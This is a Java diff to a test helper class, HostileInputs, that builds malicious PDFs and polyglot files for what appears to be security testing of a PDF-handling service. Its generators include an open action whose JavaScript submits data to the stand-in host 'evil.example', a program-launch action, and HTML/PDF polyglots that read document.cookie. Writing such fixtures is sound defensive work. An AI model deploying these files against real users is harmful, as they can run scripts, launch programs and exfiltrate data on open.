@@ -18,18 +18,18 @@ import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
 import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
 
 /** Malicious and malformed files and texts, made on the spot. */
-final class HostileInputs {
+public final class HostileInputs {
 
   private HostileInputs() {}
 
   /** A one-page PDF that runs JavaScript as soon as it is opened. */
-  static byte[] pdfWithOpenActionJavaScript() {
+  public static byte[] pdfWithOpenActionJavaScript() {
     return pdf(document -> document.getDocumentCatalog()
         .setOpenAction(new PDActionJavaScript("app.alert('pwned'); this.submitForm('https://evil.example/')")));
   }
 
   /** A one-page PDF carrying document-level JavaScript in its Names tree (runs on open in Acrobat). */
-  static byte[] pdfWithDocumentJavaScript() {
+  public static byte[] pdfWithDocumentJavaScript() {
     return pdf(document -> {
       var scripts = new PDJavascriptNameTreeNode();
       scripts.setNames(java.util.Map.of("init", new PDActionJavaScript("app.alert(1)")));
@@ -40,7 +40,7 @@ final class HostileInputs {
   }
 
   /** A one-page PDF with a link whose action is JavaScript. */
-  static byte[] pdfWithJavaScriptLink() {
+  public static byte[] pdfWithJavaScriptLink() {
     return pdf(document -> {
       var link = new PDAnnotationLink();
       link.setRectangle(new PDRectangle(10, 10, 100, 20));
@@ -54,7 +54,7 @@ final class HostileInputs {
   }
 
   /** A one-page PDF that launches a program when opened. */
-  static byte[] pdfWithLaunchAction() {
+  public static byte[] pdfWithLaunchAction() {
     return pdf(document -> {
       var launch = new PDActionLaunch();
       launch.setFile(new org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification(
@@ -64,52 +64,52 @@ final class HostileInputs {
   }
 
   /** Encrypted with an owner password only: it opens without a password, but its content is encrypted. */
-  static byte[] encryptedPdfWithoutUserPassword() {
+  public static byte[] encryptedPdfWithoutUserPassword() {
     return pdf(document -> protect(document, ""));
   }
 
   /** Encrypted with a password needed to open it. */
-  static byte[] passwordProtectedPdf() {
+  public static byte[] passwordProtectedPdf() {
     return pdf(document -> protect(document, "secret"));
   }
 
   /** A PDF header and then an HTML page: a browser sniffing it would run the script. */
-  static byte[] pdfHeaderOnHtml() {
+  public static byte[] pdfHeaderOnHtml() {
     return ("%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n")
         .getBytes(StandardCharsets.US_ASCII);
   }
 
   /** An HTML page with a PDF inside it. */
-  static byte[] htmlWithPdfInside() {
+  public static byte[] htmlWithPdfInside() {
     byte[] html = "<html><script>alert(1)</script><!--".getBytes(StandardCharsets.US_ASCII);
     return concat(html, onePage(), "-->".getBytes(StandardCharsets.US_ASCII));
   }
 
   /** A PDF header and then a ZIP archive. */
-  static byte[] pdfHeaderOnZip() {
+  public static byte[] pdfHeaderOnZip() {
     return concat("%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII), zip());
   }
 
   /** A real, valid PDF with a ZIP archive appended after its end: a PDF/ZIP polyglot. */
-  static byte[] pdfWithZipAppended() {
+  public static byte[] pdfWithZipAppended() {
     return concat(onePage(), zip());
   }
 
   /** A real, valid PDF with an HTML page appended after its end. */
-  static byte[] pdfWithHtmlAppended() {
+  public static byte[] pdfWithHtmlAppended() {
     return concat(onePage(), ("\n<html><script>alert(document.cookie)</script></html>\n".repeat(40))
         .getBytes(StandardCharsets.US_ASCII));
   }
 
   /** Starts like a PDF, then is padded to the given size: too big to be read at all. */
-  static byte[] oversizedPdf(int megabytes) {
+  public static byte[] oversizedPdf(int megabytes) {
     byte[] start = onePage();
     byte[] content = new byte[megabytes * 1024 * 1024];
     System.arraycopy(start, 0, content, 0, start.length);
     return content;
   }
 
-  static byte[] onePage() {
+  public static byte[] onePage() {
     return pdf(document -> {});
   }
 
@@ -146,7 +146,7 @@ final class HostileInputs {
     }
   }
 
-  static byte[] concat(byte[]... parts) {
+  public static byte[] concat(byte[]... parts) {
     var out = new ByteArrayOutputStream();
     for (byte[] part : parts) {
       out.writeBytes(part);
